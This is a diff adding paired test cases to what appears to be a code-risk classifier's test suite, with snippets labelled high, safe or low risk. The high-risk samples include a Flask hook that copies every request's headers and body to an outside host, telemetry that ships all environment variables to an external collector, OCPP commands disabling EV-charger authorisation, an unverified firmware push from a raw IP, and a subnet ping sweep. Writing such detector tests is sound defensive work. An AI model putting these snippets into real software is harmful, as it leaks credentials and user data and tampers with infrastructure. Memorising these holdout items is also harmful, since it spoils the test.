@@ -10211,6 +10211,99 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             '    subprocess.run(["systemctl", "restart", u])\n',
             M,
         ),
+        # holdout288-291: request mirrors in web hooks, the environment in telemetry, log records pickled in memory,
+        # chargers unauthorised and unverified firmware, named host series pinged
+        (
+            'import threading, requests\n'
+            'from flask import request\n'
+            'def install(app):\n'
+            '    @app.before_request\n'
+            '    def _m():\n'
+            '        snap = {"headers": dict(request.headers), "body": request.get_data(as_te'
+            'xt=True)}\n'
+            '        threading.Thread(target=requests.post, args=("https://req-mirror.example'
+            '.io/h",), kwargs={"json": snap}).start()\n',
+            H,
+        ),
+        (
+            'import logging\n'
+            'from flask import request\n'
+            'def install(app):\n'
+            '    @app.before_request\n'
+            '    def _log():\n'
+            '        logging.info("%s %s", request.method, request.path)\n',
+            S,
+        ),
+        (
+            'import os\n'
+            'from opentelemetry.sdk.resources import Resource\n'
+            'from opentelemetry.exporter.otlp.proto.http.trace_exporter import OTLPSpanExport'
+            'er\n'
+            'attrs = {f"env.{k}": v for k, v in os.environ.items()}\n'
+            'r = Resource.create(attrs)\n'
+            'exp = OTLPSpanExporter(endpoint="https://otlp.free-collector.example.io/v1/trace'
+            's")\n',
+            H,
+        ),
+        (
+            'import os\n'
+            'from opentelemetry.sdk.resources import Resource\n'
+            'from opentelemetry.exporter.otlp.proto.http.trace_exporter import OTLPSpanExport'
+            'er\n'
+            'r = Resource.create({"service.name": os.environ.get("SERVICE", "billing")})\n'
+            'exp = OTLPSpanExporter(endpoint="http://localhost:4318/v1/traces")\n',
+            S,
+        ),
+        (
+            'import logging.handlers, pickle\n'
+            'rec = logging.LogRecord("svc", 30, __file__, 1, "x", None, None)\n'
+            'blob = logging.handlers.SocketHandler("localhost", 0).makePickle(rec)[4:]\n'
+            'print(pickle.loads(blob))\n',
+            S,
+        ),
+        (
+            'import json, uuid\n'
+            'KEYS = {"AuthorizeRemoteTxRequests": "false", "FreeVendEnabled": "true"}\n'
+            'async def push(cp):\n'
+            '    for k, v in KEYS.items():\n'
+            '        await cp.ws.send(json.dumps([2, str(uuid.uuid4()), "ChangeConfiguration"'
+            ', {"key": k, "value": v}]))\n',
+            H,
+        ),
+        (
+            'import json, uuid\n'
+            'async def push(cp):\n'
+            '    await cp.ws.send(json.dumps([2, str(uuid.uuid4()), "ChangeConfiguration", {"'
+            'key": "HeartbeatInterval", "value": "300"}]))\n',
+            S,
+        ),
+        (
+            'import requests\n'
+            'FW = {"location": "http://198.51.100.77/fw/evse-custom.bin", "retries": 3}\n'
+            'for cp in requests.get("https://csms.internal/api/cps").json():\n'
+            '    requests.post(f"https://csms.internal/api/cps/{cp[\'id\']}/update-firmware", j'
+            'son=FW)\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'FW = {"location": "https://firmware.vendor.example.com/evse-5.2.1.bin", "retries'
+            '": 3}\n'
+            'requests.post("https://csms.internal/api/cps/cp-7/update-firmware", json=FW)\n',
+            L,
+        ),
+        (
+            'import subprocess\n'
+            'for n in [f"render{i:02d}" for i in range(1, 17)]:\n'
+            '    subprocess.run(["ping", "-c", "1", n])\n',
+            L,
+        ),
+        (
+            'import subprocess\n'
+            'for i in range(1, 255):\n'
+            '    subprocess.run(["ping", "-c", "1", f"10.0.0.{i}"])\n',
+            H,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
